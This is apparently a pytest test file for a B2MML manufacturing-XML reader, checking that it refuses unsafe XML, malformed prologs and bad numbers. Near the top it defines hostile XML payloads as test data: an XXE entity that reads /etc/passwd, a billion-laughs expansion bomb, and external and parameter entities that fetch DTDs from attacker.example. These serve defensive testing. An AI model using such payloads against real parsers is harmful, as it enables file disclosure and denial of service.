"""The reader is safe: no DTDs, no entity expansion, no network, bounded size; errors name lines."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from isa95.b2mml import documents, safexml, stream
from isa95.b2mml.documents import B2MML
from isa95.b2mml.mapping import batchrecord
from isa95.b2mml.safexml import MAX_PROLOG_BYTES, check_prolog
from isa95.b2mml.schemas import parse_xml
from isa95.batchrecord import BatchProductionRecord, RecordedValue, RecordEvent, TagSeries
from isa95.common import Quantity
from isa95.errors import (
    DocumentContentError,
    DocumentInvalid,
    ModelError,
    SchemaError,
    UnsafeXMLError,
    UnsupportedDocumentError,
)
from isa95.material import MaterialInformation, MaterialLot
from isa95.operations import OperationsRequest, OperationsSchedule, SegmentRequirement

NS = "http://www.mesa.org/xml/B2MML"

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE MaterialInformation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MaterialInformation xmlns="{NS}"><ID>&xxe;</ID></MaterialInformation>""".encode()

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + f']>\n<MaterialInformation xmlns="{NS}"><ID>&lol9;</ID></MaterialInformation>'.encode()
)

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE MaterialInformation SYSTEM "http://attacker.example/evil.dtd">
<MaterialInformation xmlns="{NS}"><ID>x</ID></MaterialInformation>""".encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtd_based_attacks_are_refused(b2mml: B2MML, payload: bytes) -> None:
    with pytest.raises((UnsafeXMLError, DocumentInvalid)) as info:
        b2mml.read(payload)
    assert "root:x:0" not in str(info.value)  # nothing from /etc/passwd leaked
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        b2mml.validate(payload)


def test_billion_laughs_is_refused_quickly() -> None:
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        parse_xml(BILLION_LAUGHS)


def test_oversize_documents_are_refused() -> None:
    big = b"<a>" + b"x" * 2000 + b"</a>"
    with pytest.raises(UnsafeXMLError, match="exceeds"):
        parse_xml(big, max_bytes=1000)


def test_huge_but_allowed_document_parses(b2mml: B2MML) -> None:
    lots = "".join(f"<MaterialLot><ID>L{i}</ID></MaterialLot>" for i in range(50_000))
    data = f'<MaterialInformation xmlns="{NS}">{lots}</MaterialInformation>'.encode()
    document = b2mml.read(data)
    assert len(document.model.lots) == 50_000


def test_not_well_formed_names_the_line(b2mml: B2MML) -> None:
    data = (
        f'<MaterialInformation xmlns="{NS}">\n<ID>x</ID>\n<Description>\n</MaterialInformation>'
    ).encode()
    with pytest.raises(DocumentInvalid) as info:
        b2mml.read(data)
    assert info.value.issues[0].line == 4
    assert "not well-formed" in str(info.value)


def test_schema_errors_name_element_and_line(b2mml: B2MML) -> None:
    data = (
        f'<MaterialInformation xmlns="{NS}">\n  <MaterialLot>\n    <Bogus>1</Bogus>\n'
        "  </MaterialLot>\n</MaterialInformation>"
    ).encode()
    with pytest.raises(DocumentInvalid) as info:
        b2mml.read(data)
    issue = info.value.issues[0]
    assert (issue.line, issue.element) == (3, "Bogus")
    assert "line 3: <Bogus>" in str(info.value)


def test_foreign_and_legacy_namespaces_are_refused_clearly(b2mml: B2MML) -> None:
    with pytest.raises(UnsupportedDocumentError, match="not B2MML V0701 or V0600"):
        b2mml.read(b'<html xmlns="http://www.w3.org/1999/xhtml"/>')
    with pytest.raises(UnsupportedDocumentError, match="V0401 documents are not supported"):
        b2mml.read(b'<SyncMaterialInformation xmlns="http://www.wbf.org/xml/B2MML-V0401"/>')
    with pytest.raises(UnsupportedDocumentError, match="no global element <NoSuchNoun>"):
        b2mml.read(f'<NoSuchNoun xmlns="{NS}"/>'.encode())


def test_schema_directory_is_required(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.delenv("GXPMES_B2MML_SCHEMAS", raising=False)
    monkeypatch.setenv("GXPMES_DATA_DIR", str(tmp_path / "no-user-install"))
    with pytest.raises(SchemaError, match="GXPMES_B2MML_SCHEMAS"):
        B2MML()
    with pytest.raises(SchemaError, match="neither V0701"):
        B2MML(tmp_path)


def test_extension_content_is_kept_and_reported(b2mml: B2MML) -> None:
    # UserArea is B2MML's xsd:any extension point (processContents=strict, so
    # the extension must be a declared element). The reader keeps it verbatim
    # in the tree and lists it as content the models do not carry.
    data = f"""<?xml version="1.0"?>
<SyncMaterialInformation xmlns="{NS}" releaseID="1.0">
  <ApplicationArea>
    <CreationDateTime>2026-01-01T00:00:00Z</CreationDateTime>
    <UserArea><MaterialLot><ID>EXT-1</ID></MaterialLot></UserArea>
  </ApplicationArea>
  <DataArea><Sync/><MaterialInformation><MaterialLot><ID>L-1</ID></MaterialLot></MaterialInformation></DataArea>
</SyncMaterialInformation>""".encode()
    document = b2mml.read(data)
    assert document.model.lots[0].id == "L-1"
    extension = document.tree["ApplicationArea"]["UserArea"]["##any"][0]
    assert "EXT-1" in extension and extension.lstrip().startswith("<MaterialLot")
    assert document.unmapped == ["SyncMaterialInformation/ApplicationArea/UserArea"]


# ------------------------------------------------------------ the prolog scan


def _within(seconds: float, action: Callable[[], object]) -> BaseException | None:
    """Run ``action`` in a daemon thread; fail if it has not ended after ``seconds``.

    Returns what it raised (None if nothing), so a loop that never ends fails
    the test instead of hanging the run.
    """
    outcome: list[BaseException | None] = []

    def run() -> None:
        try:
            action()
            outcome.append(None)
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    assert outcome, f"did not finish within {seconds} s"
    return outcome[0]


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?>\n<!-- unterminated',  # the 39-byte input that used to hang
        b"<!--",
        b"<!-->",
        b"<!--->",
        b'<?xml version="1.0"',
        b"<?",
        b"<![CDATA[x",
        b"<!DOC",
        b"<!",
        b"DOCTYPE <",
        b"\xef\xbb\xbf<!-- x",
        "<!-- x".encode("utf-16"),
        "<?xml".encode("utf-16-be"),
        "<!-- x".encode("utf-32"),
        b"",
    ],
)
def test_unterminated_prologs_end_as_not_well_formed(data: bytes) -> None:
    error = _within(2, lambda: parse_xml(data))
    assert isinstance(error, DocumentInvalid), repr(error)


DOCTYPE_DOC = (
    '<?xml version="1.0" encoding="{}"?><!-- c --><?pi x?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
)


@pytest.mark.parametrize(
    ("codec", "declared", "bom"),
    [
        ("utf-8", "UTF-8", b""),
        ("utf-8", "UTF-8", b"\xef\xbb\xbf"),
        ("utf-16-le", "UTF-16", b"\xff\xfe"),
        ("utf-16-be", "UTF-16", b"\xfe\xff"),
        ("utf-16-le", "UTF-16", b""),  # no BOM: libxml2 still detects it from "<?"
        ("utf-16-be", "UTF-16", b""),
        ("utf-32-le", "UTF-32", b"\xff\xfe\x00\x00"),
        ("utf-32-le", "UTF-32", b""),
        ("utf-7", "UTF-7", b""),  # '<' is "+ADw-": invisible to a byte scan
        ("iso-8859-1", "ISO-8859-1", b""),
        ("cp1252", "windows-1252", b""),
    ],
)
def test_doctype_is_refused_before_parsing_in_every_encoding(
    codec: str, declared: str, bom: bytes
) -> None:
    data = bom + DOCTYPE_DOC.format(declared).encode(codec)
    error = _within(2, lambda: check_prolog(data))
    assert isinstance(error, UnsafeXMLError) and "DOCTYPE" in str(error), repr(error)


@pytest.mark.parametrize(
    ("codec", "bom"),
    [("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")],
)
def test_documents_without_doctype_parse_in_those_encodings(codec: str, bom: bytes) -> None:
    declared = "UTF-8" if codec == "utf-8" else "UTF-16"
    text = f'<?xml version="1.0" encoding="{declared}"?>\n<!-- <!DOCTYPE in a comment -->\n<a>é</a>'
    tree = parse_xml(bom + text.encode(codec))
    assert tree.getroot().text == "é"


@pytest.mark.parametrize("padding", ["", " "])  # both byte alignments of what follows
@pytest.mark.parametrize(
    ("declared", "codec"),
    [
        ("UTF-16LE", "utf-16-le"),
        ("UTF-16BE", "utf-16-be"),
        ("utf-16", "utf-16-le"),
        ("UTF-32LE", "utf-32-le"),
        ("UTF-7", "utf-7"),
    ],
)
def test_doctype_after_the_encoding_switch_is_refused(
    declared: str, codec: str, padding: str
) -> None:
    # libxml2 reads the rest of the document in the declared encoding from the
    # closing quote of the encoding name on; the scan must read it the same way.
    head = f'<?xml version="1.0"{padding} encoding="{declared}"'.encode()
    data = head + '?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode(codec)
    error = _within(2, lambda: check_prolog(data))
    assert isinstance(error, UnsafeXMLError) and "DOCTYPE" in str(error), repr(error)
    harmless = head + "?><a>x</a>".encode(codec)
    assert parse_xml(harmless).getroot().text == "x"


@pytest.mark.parametrize("name", ["UTF-\x008", "UTF 8", "", "8BIT"])
def test_a_malformed_encoding_name_is_not_well_formed(name: str) -> None:
    data = f"<?xml version='1.0' encoding='{name}'?><a/>".encode("latin-1")
    error = _within(2, lambda: parse_xml(data))
    assert isinstance(error, DocumentInvalid), repr(error)


def test_an_encoding_that_cannot_be_checked_is_refused() -> None:
    with pytest.raises(UnsafeXMLError, match="x-no-such-encoding"):
        parse_xml(b'<?xml version="1.0" encoding="x-no-such-encoding"?><a/>')


def test_a_prolog_longer_than_the_scan_is_refused() -> None:
    padding = b"<!--" + b"x" * MAX_PROLOG_BYTES + b"-->"
    with pytest.raises(UnsafeXMLError, match="prolog"):
        parse_xml(padding + b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>')


def test_the_parsed_tree_check_stands_behind_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    # With the scan removed, a DOCTYPE still never leads to a document.
    monkeypatch.setattr(safexml, "check_prolog", lambda data: None)
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        parse_xml(DOCTYPE_DOC.format("UTF-8").encode())
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        parse_xml(BILLION_LAUGHS)


# ------------------------------------------------ content that does not make a model


def _record(b2mml: B2MML, version: str = "V0701") -> bytes:
    value = RecordedValue(timestamp=datetime(2026, 1, 1, tzinfo=UTC), value="1", quality="Good")
    event = RecordEvent(id="E-1", timestamp=datetime(2026, 1, 1, tzinfo=UTC))
    record = BatchProductionRecord(
        id="R-1", series=[TagSeries(tag="TT-101", values=[value])], events=[event]
    )
    return b2mml.write(record, version=version)


def _line_of(data: bytes, marker: bytes) -> int:
    return data[: data.index(marker)].count(b"\n") + 1


@pytest.mark.parametrize("version", ["V0701", "V0600"])
def test_an_empty_element_names_its_path_and_line(b2mml: B2MML, version: str) -> None:
    data = _record(b2mml, version).replace(b"<Quality>Good</Quality>", b"<Quality></Quality>")
    assert not b2mml.validate(data)  # schema-valid: only the model refuses it
    with pytest.raises(DocumentContentError) as info:
        b2mml.read(data)
    error = info.value
    path = "BatchProductionRecord/DataSets/DataSet[0]/OrderedData[0]/DataValue[0]"
    line = _line_of(data, b"<DataValue>")
    assert (error.path, error.line) == (path, line)
    assert str(error).startswith(f"{path} (line {line}): quality: ")
    assert isinstance(error, ModelError)  # callers that catch ModelError keep working


def _schedule(b2mml: B2MML) -> bytes:
    schedule = OperationsSchedule(
        id="S-1",
        requests=[
            OperationsRequest(
                id="R-1",
                priority=5,
                segments=[SegmentRequirement(id="G", process_segment_id="PS-1")],
            )
        ],
    )
    return b2mml.write(schedule, version="V0701")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"<Priority>5</Priority>", b"<Priority>1.5</Priority>", "'1.5' is not an integer"),
        (b"<Priority>5</Priority>", b"<Priority>5" + b"0" * 10_000 + b"</Priority>", "longer"),
        (b"<Priority>5</Priority>", b"<Priority>" + b"9" * 5000 + b"</Priority>", None),
    ],
)
def test_numbers_are_exact_or_refused_by_path(
    b2mml: B2MML, old: bytes, new: bytes, message: str | None
) -> None:
    data = _schedule(b2mml).replace(old, new)
    if message is None:  # 5000 digits: more than int() parses from text, still read exactly
        assert b2mml.read(data).model.requests[0].priority == 10**5000 - 1
        return
    with pytest.raises(DocumentContentError, match=message) as info:
        b2mml.read(data)
    assert info.value.path == "OperationsSchedule/OperationsRequest[0]"


def test_a_quantity_that_is_not_finite_is_refused(b2mml: B2MML) -> None:
    lot = MaterialLot(id="L-1", quantity=Quantity(value=Decimal("2.5"), unit="kg"))
    data = b2mml.write(MaterialInformation(lots=[lot]), version="V0701")
    for text in (b"NaN", b"-INF", b"1_000", b"\xd9\xa1"):  # "\u0661" is an Arabic-Indic 1
        bad = data.replace(b"<QuantityString>2.5<", b"<QuantityString>" + text + b"<")
        with pytest.raises(DocumentContentError, match=r"MaterialLot\[0\] 'L-1' \(line \d+\)"):
            b2mml.read(bad)


def test_an_unforeseen_failure_is_reported_at_the_element_read_last(
    b2mml: B2MML, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = _record(b2mml)

    def broken(value: object) -> str:
        raise KeyError("surprise")

    monkeypatch.setattr(batchrecord, "_decoded", broken)
    with pytest.raises(DocumentContentError, match="cannot map this element: KeyError") as info:
        b2mml.read(data)
    assert info.value.path == "BatchProductionRecord/Events/Event[0]"
    assert info.value.line == _line_of(data, b"<Event>")
    # The boundary is what keeps it in the hierarchy: without it the KeyError escapes.
    monkeypatch.setattr(documents, "content_errors", contextlib.nullcontext)
    monkeypatch.setattr(stream, "content_errors", contextlib.nullcontext)  # records' boundary
    with pytest.raises(KeyError):
        b2mml.read(data)
